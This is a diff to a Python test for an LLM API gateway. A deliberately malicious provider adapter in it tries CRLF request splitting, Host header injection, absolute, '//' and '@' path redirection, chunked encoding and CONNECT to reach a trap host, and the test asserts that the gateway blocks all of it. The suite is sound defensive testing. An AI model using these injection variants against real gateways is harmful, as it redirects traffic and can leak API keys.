@@ -85,6 +85,27 @@ from providers.vendors.openai.adapter import ADAPTER as HONEST
 TRAP = {trap!r}
 HOST = TRAP.removeprefix("http://")
 
+def attacked(wire, attack):
+    return {{
+        "absolute": replace(wire, path=TRAP + "/v1/chat/completions"),
+        "slashes": replace(wire, path="//" + HOST + "/v1"),
+        "user": replace(wire, path="@" + HOST + "/v1"),
+        "split": replace(wire, path="/v1 HTTP/1.1\\r\\nHost: " + HOST + "\\r\\n\\r\\nPOST /x"),
+        "host": replace(wire, headers=(*wire.headers, ("Host", HOST))),
+        "header": replace(wire, headers=(*wire.headers, ("x-a", "b\\r\\nHost: " + HOST))),
+        "chunked": replace(wire, headers=(*wire.headers, ("transfer-encoding", "chunked"))),
+        "query": replace(wire, path="/v1?url=" + TRAP),
+        "method": replace(wire, method="CONNECT"),
+    }}[attack]
+
+@dataclass(frozen=True)
+class EvilEmbeddings:
+    facts = HONEST.embeddings.facts
+    parse_response = HONEST.embeddings.parse_response
+
+    def build_request(self, request, target):
+        return attacked(HONEST.embeddings.build_request(request, target), request.inputs[0])
+
 @dataclass(frozen=True)
 class Evil:
     name = "evil"
@@ -94,21 +115,10 @@ class Evil:
     parse_response = HONEST.parse_response
     stream_parser = HONEST.stream_parser
     classify_error = HONEST.classify_error
+    embeddings = EvilEmbeddings()
 
     def build_request(self, request, target):
-        wire = HONEST.build_request(request, target)
-        attack = request.messages[-1].content
-        return {{
-            "absolute": replace(wire, path=TRAP + "/v1/chat/completions"),
-            "slashes": replace(wire, path="//" + HOST + "/v1"),
-            "user": replace(wire, path="@" + HOST + "/v1"),
-            "split": replace(wire, path="/v1 HTTP/1.1\\r\\nHost: " + HOST + "\\r\\n\\r\\nPOST /x"),
-            "host": replace(wire, headers=(*wire.headers, ("Host", HOST))),
-            "header": replace(wire, headers=(*wire.headers, ("x-a", "b\\r\\nHost: " + HOST))),
-            "chunked": replace(wire, headers=(*wire.headers, ("transfer-encoding", "chunked"))),
-            "query": replace(wire, path="/v1?url=" + TRAP),
-            "method": replace(wire, method="CONNECT"),
-        }}[attack]
+        return attacked(HONEST.build_request(request, target), request.messages[-1].content)
 
 ADAPTER = Evil()
 """
@@ -124,12 +134,19 @@ def test_malicious_adapter_sends_nothing_out(providers: SimulatorThread, trap: T
     honest = providers["us"]
     honest.scenario = Scenario()
     bad = {"provider": "evil", "model": "m", "endpoint": f"{honest.origin}/v1", "stores": "US", "processes": "US"}
+    bad |= {"api_key": "${KEY_US}"}
     config = Config(
         {
             "version": 1,
-            "assistants": {"assistant": {"routes": {"default": ["bad"]}}},
+            "assistants": {
+                "assistant": {
+                    "routes": {"default": ["bad"]},
+                    "embeddings": {"default": ["bad"]},
+                    "moderations": {"default": ["guard"]},
+                }
+            },
             "regions": {"default": {"territories": ["*"], "boundary": ["*"]}},
-            "deployments": {"bad": bad | {"api_key": "${KEY_US}"}},
+            "deployments": {"bad": bad, "guard": bad | {"model": "llama-guard-3"}},
             "location": {"unknown": "default"},
         }
     ).write(tmp_path)
@@ -140,8 +157,16 @@ def test_malicious_adapter_sends_nothing_out(providers: SimulatorThread, trap: T
         httpx.Client(base_url=gateway.url, trust_env=False) as client,
     ):
         for attack in attacks:
-            message = {"model": "assistant", "messages": [{"role": "user", "content": attack}]}
-            response = client.post(CHAT, json=message)
-            assert (response.status_code, response.json()["error"]["code"]) == (500, "internal_error"), attack
+            chat = {"messages": [{"role": "user", "content": attack}]}
+            for path, body in (
+                (CHAT, chat),
+                ("/v1/embeddings", {"input": attack}),
+                ("/v1/moderations", {"input": attack}),
+            ):
+                response = client.post(path, json={"model": "assistant", **body})
+                assert (response.status_code, response.json()["error"]["code"]) == (500, "internal_error"), (
+                    path,
+                    attack,
+                )
     assert trap.requests == []
     assert honest.received == before
